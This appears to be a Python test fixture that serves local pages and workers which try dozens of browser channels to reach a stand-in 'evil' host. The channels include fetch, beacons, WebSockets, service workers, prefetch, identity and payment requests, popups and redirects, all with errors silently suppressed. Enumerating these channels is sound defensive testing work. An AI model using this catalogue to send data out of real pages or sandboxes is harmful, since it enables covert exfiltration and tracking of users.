"""Every way out that a page has, as pages: each asks `EVIL` for a path that names the way."""

from __future__ import annotations

from tests.web import Web

_WORKER = """
const who = self.name || new URL(location).searchParams.get("who") || "service";
const quietly = (what) => { try { what()?.catch?.(() => 0); } catch {} };
quietly(() => fetch("EVIL/" + who + "-fetch", {mode: "no-cors"}));
quietly(() => { const asked = new XMLHttpRequest(); asked.open("GET", "EVIL/" + who + "-xhr"); asked.send(); });
quietly(() => { new EventSource("EVIL/" + who + "-events"); });
quietly(() => { new WebSocket("SOCKET/" + who + "-socket"); });
quietly(() => { new WebSocket("DOTTED/" + who + "-dotted-socket"); });
quietly(() => importScripts("EVIL/" + who + "-import.js"));
const inner = `fetch("EVIL/${who}-nested", {mode: "no-cors"}); new WebSocket("SOCKET/${who}-nested-socket")`;
quietly(() => { new Worker(URL.createObjectURL(new Blob([inner]))); });
"""
_SERVICE = """
self.addEventListener("install", (event) => {
  self.skipWaiting(); event.waitUntil(fetch("EVIL/service-install", {mode: "no-cors"}).catch(() => 0)); });
"""
_UNSEEN = """<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["EVIL/speculation"]}]}</script>
<script>
const quietly = (what) => { try { what()?.catch?.(() => 0); } catch {} };
quietly(() => { new SharedWorker("GOOD/worker.js?who=shared"); });
quietly(() => fetch("GOOD/worker.js").then((answer) => answer.text()).then((text) => {
  new SharedWorker(URL.createObjectURL(new Blob([text])), "blob");
  new SharedWorker("data:text/javascript," + encodeURIComponent(text), "data"); }));
quietly(() => navigator.serviceWorker.register("GOOD/service.js"));
quietly(() => navigator.serviceWorker.ready.then((kept) => kept.backgroundFetch.fetch("x", ["EVIL/background"])));
quietly(() => new PaymentRequest([{supportedMethods: "EVIL/pay"}],
                                 {total: {label: "x", amount: {currency: "EUR", value: "1"}}}).canMakePayment());
quietly(() => navigator.credentials.get({identity: {providers: [{configURL: "EVIL/identity.json", clientId: "x"}]}}));
</script>"""
_PAGE = """<!doctype html><title>Outlets</title>
<link rel="stylesheet" href="EVIL/link.css"><link rel="icon" href="EVIL/icon.gif">
<link rel="manifest" href="EVIL/site.webmanifest" crossorigin="use-credentials">
<link rel="prefetch" href="EVIL/prefetch"><link rel="preload" as="image" href="EVIL/preload.gif">
<link rel="modulepreload" href="EVIL/modulepreload.js"><link rel="preconnect" href="EVIL">
<link rel="dns-prefetch" href="EVIL"><script src="EVIL/script.js"></script>
<style>@import url(EVIL/import.css); @font-face { font-family: x; src: url(EVIL/font.woff); }
body { font-family: x; background: url(EVIL/background.gif); }</style>
<img src="EVIL/img.gif"><img srcset="EVIL/srcset.gif 1x"><audio src="EVIL/audio.mp3" autoplay></audio>
<video src="EVIL/video.mp4" poster="EVIL/poster.gif" autoplay><track src="EVIL/track.vtt" default></video>
<svg><image href="EVIL/svg.gif"/></svg><object data="EVIL/object"></object><embed src="EVIL/embed">
<iframe src="EVIL/iframe"></iframe><iframe srcdoc="<img src='EVIL/srcdoc.gif'>"></iframe>
<iframe src="data:text/html,<img src='EVIL/data.gif'>"></iframe><iframe src="OTHER/inner"></iframe>
<iframe sandbox="allow-scripts" srcdoc="<script>fetch('EVIL/sandbox', {mode: 'no-cors'})</script>"></iframe>
<img src="GOOD/to-img"><iframe src="GOOD/to-iframe"></iframe>
<iframe name="into"></iframe><form action="EVIL/form" method="post" target="into"><input name="a" value="b"></form>
<a id="ping" href="#ping" ping="EVIL/ping">Ping</a>
UNSEEN
<script>
quietly(() => fetch("EVIL/fetch"));
quietly(() => fetch("EVIL/no-cors", {mode: "no-cors"}));
quietly(() => fetch("EVIL/keepalive", {method: "POST", body: "x", mode: "no-cors", keepalive: true}));
quietly(() => fetch("EVIL/preflight", {headers: {"x-custom": "1"}}));
quietly(() => fetch("GOOD/to-fetch"));
quietly(() => { const asked = new XMLHttpRequest(); asked.open("GET", "EVIL/xhr"); asked.send(); });
quietly(() => { navigator.sendBeacon("EVIL/beacon", "x"); });
quietly(() => { new EventSource("EVIL/events"); });
quietly(() => { new WebSocket("SOCKET/socket"); });
quietly(() => { new WebSocket("DOTTED/dotted-socket"); });
quietly(() => CSS.paintWorklet.addModule("EVIL/paint.js"));
quietly(() => new OfflineAudioContext(1, 100, 44100).audioWorklet.addModule("EVIL/sound.js"));
quietly(() => import("EVIL/dynamic.js"));
quietly(() => { new Image().src = "EVIL/script-image.gif"; });
quietly(() => document.fonts.load("12px x"));
quietly(() => { new Worker("GOOD/worker.js?who=dedicated"); });
quietly(() => { new Worker("GOOD/worker.js?who=module", {type: "module"}); });
quietly(() => { new Worker(URL.createObjectURL(new Blob(["fetch('EVIL/blob-worker', {mode: 'no-cors'})"]))); });
quietly(() => { fetchLater("EVIL/later", {activateAfter: 50}); });
quietly(() => { window.open("EVIL/popup"); });
quietly(() => { window.open("EVIL/popup-noopener", "_blank", "noopener"); });
quietly(() => { window.open("GOOD/to-popup"); });
quietly(() => { window.open("about:blank").document.write("<img src='EVIL/popup-image.gif'>"); });
quietly(() => document.forms[0].submit());
quietly(() => document.getElementById("ping").click());
quietly(() => {
  const frame = document.createElement("iframe");
  frame.src = URL.createObjectURL(new Blob(["<img src='EVIL/blob.gif'>"], {type: "text/html"}));
  document.body.append(frame); });
addEventListener("pagehide", () => { navigator.sendBeacon("EVIL/pagehide"); });
</script>"""
_INNER = """<img src="EVIL/inner.gif"><iframe src="EVIL/inner-iframe"></iframe><script>
fetch("EVIL/inner-fetch", {mode: "no-cors"}).catch(() => 0); new WebSocket("SOCKET/inner-socket");
new Worker(URL.createObjectURL(new Blob(["fetch('EVIL/inner-worker', {mode: 'no-cors'})"])));
</script>"""

# What Chrome opens for itself and no session tells of: in a Chrome of ours, its resolver refuses their hosts.
BESIDE_ALL_SESSIONS = ["/.well-known/web-identity", "/identity.json", "/pay", "/speculation"]


def put_outlets(web: Web) -> str:
    """The address of the page on the host "good"."""
    for name in ("to-img", "to-iframe", "to-fetch", "to-popup"):
        web.redirect("good", f"/{name}", f"{web.origin('evil')}/redirected-{name}")
    web.put("other", "/inner", _filled(_INNER, web))
    _put_workers(web)
    return web.put(
        "good",
        "/",
        _filled(_PAGE.replace("UNSEEN", _UNSEEN), web),
        Content_Security_Policy_Report_Only=f"img-src 'none'; report-uri {web.origin('evil')}/report",
        Link=f"<{web.origin('evil')}/header.css>; rel=preload; as=style",
    )


def put_unseen(web: Web) -> str:
    """The same for a page with those alone that sessions of tabs do not tell of."""
    _put_workers(web)
    return web.put("good", "/", _filled(_UNSEEN, web))


def _put_workers(web: Web) -> None:
    web.put("good", "/worker.js", _filled(_WORKER, web), "text/javascript")
    web.put("good", "/service.js", _filled(_WORKER + _SERVICE, web), "text/javascript")


def _filled(text: str, web: Web) -> str:
    text = text.replace("EVIL", web.origin("evil")).replace("GOOD", web.origin("good"))
    text = text.replace("OTHER", web.origin("other")).replace("DOTTED", f"ws://evil.localhost.:{web.port}")
    return text.replace("SOCKET", f"ws://evil.localhost:{web.port}")
